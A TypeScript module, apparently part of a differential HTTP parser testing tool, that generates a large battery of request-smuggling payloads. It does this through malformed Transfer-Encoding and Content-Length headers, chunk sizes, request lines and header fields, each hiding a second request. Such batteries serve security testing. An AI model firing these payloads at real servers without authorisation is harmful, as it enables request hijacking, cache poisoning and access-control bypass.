/** Bytes of a client that two servers may read differently. Every path in it names the payload. */
export interface Payload {
  name: string
  bytes: string
}

/**
 * The battery of rule P: framings of bodies, lengths, chunks, request lines and pipelines, in which a
 * second request, `/smuggled/…`, waits for a server that ends the first one somewhere else.
 */
export function smugglingPayloads(host: string): Payload[] {
  const payloads: Payload[] = []
  const tried = (name: string, build: (id: number) => string): void => {
    payloads.push({ name, bytes: build(payloads.length) })
  }
  const smuggled = (id: number): string => `GET /smuggled/${id} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
  const head = (id: number, lines: string[], method = 'POST', version = '1.1'): string =>
    `${[`${method} /p/${id} HTTP/${version}`, `Host: ${host}`, ...lines].join('\r\n')}\r\n\r\n`
  const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`

  for (const encoding of ENCODINGS) {
    tried(`encoding ${show(encoding)}, and a length that covers the second request`, (id) => {
      const body = `0\r\n\r\n${smuggled(id)}`
      return head(id, [encoding, `Content-Length: ${body.length}`]) + body
    })
    tried(
      `encoding ${show(encoding)}, with no length`,
      (id) => `${head(id, [encoding])}0\r\n\r\n${smuggled(id)}`,
    )
  }
  for (const length of LENGTHS)
    tried(`length ${show(length)}`, (id) => `${head(id, [length])}hello${smuggled(id)}`)
  for (const size of SIZES)
    tried(
      `chunk size ${show(size)}`,
      (id) => `${head(id, ['Transfer-Encoding: chunked'])}${size}hello\r\n0\r\n\r\n${smuggled(id)}`,
    )
  for (const body of BODIES)
    tried(
      `chunks ${show(body)}`,
      (id) => `${head(id, ['Transfer-Encoding: chunked'])}${body}${smuggled(id)}`,
    )
  for (const method of ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'PUT', 'PATCH', 'POST', 'TRACE']) {
    tried(`${method} whose body is a request, by length`, (id) => {
      const body = smuggled(id)
      return head(id, [`Content-Length: ${body.length}`], method) + body
    })
    tried(
      `${method} whose body is a request, in chunks`,
      (id) => `${head(id, ['Transfer-Encoding: chunked'], method)}${chunk(smuggled(id))}0\r\n\r\n`,
    )
  }
  for (const line of LINES)
    tried(`first line ${show(line)}`, (id) => {
      const first = line.replace('PATH', `/p/${id}`).replace('HOST', host)
      return `${first}Host: ${host}\r\n\r\n${smuggled(id)}`
    })
  for (const field of FIELDS)
    tried(`field ${show(field)}`, (id) => {
      const body = smuggled(id)
      return head(id, [field.replaceAll('HOST', host), `Content-Length: ${body.length}`]) + body
    })
  for (const lines of [['Connection: keep-alive'], ['Transfer-Encoding: chunked'], []])
    tried(
      `an old version with ${show(lines.join())}`,
      (id) => `${head(id, lines, 'POST', '1.0')}0\r\n\r\n${smuggled(id)}`,
    )
  tried('a body that never comes whole', (id) => `${head(id, ['Content-Length: 100'])}hello`)
  tried(
    'chunks that never end',
    (id) => `${head(id, ['Transfer-Encoding: chunked'])}5\r\nhello\r\n`,
  )
  tried('requests that are meant to follow each other', (id) =>
    [head(id, [], 'GET'), `${head(id, ['Content-Length: 5'])}hello`, head(id, [], 'GET')].join(''),
  )
  return payloads
}

const show = (text: string): string => JSON.stringify(text.slice(0, 50))

const ENCODINGS = [
  'Transfer-Encoding: chunked',
  'transfer-ENCODING: CHUNKED',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked\t',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding\n: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: chunked\x0c',
  'Transfer-Encoding: chun\0ked',
  'Transfer-Encoding: \xffchunked',
  'Transfer-Encoding: \x80chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\0: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\r\n\tTransfer-Encoding: chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: ',
  'TE: chunked',
]

const LENGTHS = [
  'Content-Length: 5',
  'Content-Length: 05',
  'Content-Length: +5',
  'Content-Length: -5',
  'Content-Length: 0x5',
  'Content-Length: 5, 5',
  'Content-Length: 5, 6',
  'Content-Length: 5 5',
  'Content-Length: 5;',
  'Content-Length: 5.0',
  'Content-Length: 5e0',
  'Content-Length: "5"',
  'Content-Length: ',
  'Content-Length: five',
  'Content-Length: 99999999999999999999',
  'Content-Length: 18446744073709551621',
  'Content-Length: 5\r\nContent-Length: 5',
  'Content-Length: 5\r\nContent-Length: 6',
  'Content-Length: 0\r\nContent-Length: 5',
  'Content-Length : 5',
  'Content-Length\t: 5',
  'Content_Length: 5',
  'Content-Length:\r\n 5',
  'Content-Length: \x005',
  'Content-Length: \x0b5',
  'Content-Length: 5\x0b',
  'X: y\nContent-Length: 5',
  'X: y\rContent-Length: 5',
  ' Content-Length: 5',
  '\0Content-Length: 5',
]

const SIZES = [
  '5\r\n',
  '05\r\n',
  '0000000000000005\r\n',
  '0x5\r\n',
  '+5\r\n',
  '-5\r\n',
  ' 5\r\n',
  '5 \r\n',
  '5\t\r\n',
  '5\n',
  '5\r',
  '5\r\r\n',
  '5;\r\n',
  '5;name=value\r\n',
  '5;name="a b"\r\n',
  '5;\n\r\n',
  '5;a\nb\r\n',
  '5;a\rb\r\n',
  '5;\0\r\n',
  '5,\r\n',
  '5 5\r\n',
  '5_0\r\n',
  'g\r\n',
  '\r\n',
  'ffffffffffffffff5\r\n',
  '10000000000000005\r\n',
  '80000005\r\n',
  `5;${'x'.repeat(20_000)}\r\n`,
]

const BODIES = [
  '5\r\nhelloX0\r\n\r\n',
  '5\r\nhello\n0\r\n\r\n',
  '5\r\nhello\r0\r\n\r\n',
  '5\r\nhello0\r\n\r\n',
  '5\r\nhello!\r\n0\r\n\r\n',
  '5\r\nhell\r\n0\r\n\r\n',
  '0\n\n',
  '0\r\n\n',
  '0\n\r\n',
  '00\r\n\r\n',
  '0;x=y\r\n\r\n',
  '-0\r\n\r\n',
  '0\r\nX: y\r\n\r\n',
  '0\r\nContent-Length: 5\r\n\r\n',
  '0\r\nTransfer-Encoding: chunked\r\n\r\n',
  '0\r\nHost: other\r\n\r\n',
  '0\r\nX : y\r\n\r\n',
  '0\r\n X: y\r\n\r\n',
  '0\r\nX\r\n\r\n',
  '0\r\nX: y\n\r\n',
  `0\r\nX: ${'y'.repeat(20_000)}\r\n\r\n`,
]

const LINES = [
  'GET PATH HTTP/1.1\r\n',
  'GET  PATH HTTP/1.1\r\n',
  'GET PATH  HTTP/1.1\r\n',
  'GET\tPATH\tHTTP/1.1\r\n',
  ' GET PATH HTTP/1.1\r\n',
  '\r\n\r\nGET PATH HTTP/1.1\r\n',
  '\nGET PATH HTTP/1.1\r\n',
  'GET PATH HTTP/1.1\n',
  'GET PATH HTTP/1.1\r',
  'GET PATH HTTP/1.1 \r\n',
  'GET PATH HTTP/1.2\r\n',
  'GET PATH HTTP/1.10\r\n',
  'GET PATH HTTP/01.1\r\n',
  'GET PATH HTTP/2.0\r\n',
  'GET PATH http/1.1\r\n',
  'GET PATH ICY/1.1\r\n',
  'GET PATH\r\n',
  'get PATH HTTP/1.1\r\n',
  'GET\0 PATH HTTP/1.1\r\n',
  'GET PATH\0 HTTP/1.1\r\n',
  'GET PATH\\..\\x HTTP/1.1\r\n',
  'GET PATH#x HTTP/1.1\r\n',
  'GET http://HOSTPATH HTTP/1.1\r\n',
  'GET http://other.testPATH HTTP/1.1\r\n',
  'GET http://u@HOSTPATH HTTP/1.1\r\n',
  'GET //HOSTPATH HTTP/1.1\r\n',
  'GET *PATH HTTP/1.1\r\n',
  'GET PATH HTTP/1.1\r\nHost: other.test\r\n',
  'GET PATH HTTP/1.1\r\n Host: other.test\r\n',
  'CONNECT HOST:443 HTTP/1.1\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
]

const FIELDS = [
  'Connection: Content-Length',
  'Connection: Transfer-Encoding',
  'Connection: Host',
  'Connection: close, Content-Length',
  'Connection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA',
  'Connection: upgrade\r\nUpgrade: websocket',
  'Upgrade: websocket',
  'Expect: 100-continue',
  'Expect: 100-continue, 100-continue',
  'Expect: x',
  'X-HTTP-Method-Override: GET',
  'X: a\r\n b',
  'X: a\r\n\tb',
  'X\r: a',
  'X: \r\n\r',
  ': a',
  'X',
  'X(Y): a',
  'X: a\x00b',
  'Host: HOST',
  'Host : HOST',
  'Trailer: Content-Length',
  'Keep-Alive: timeout=5',
  'Proxy-Connection: close',
]
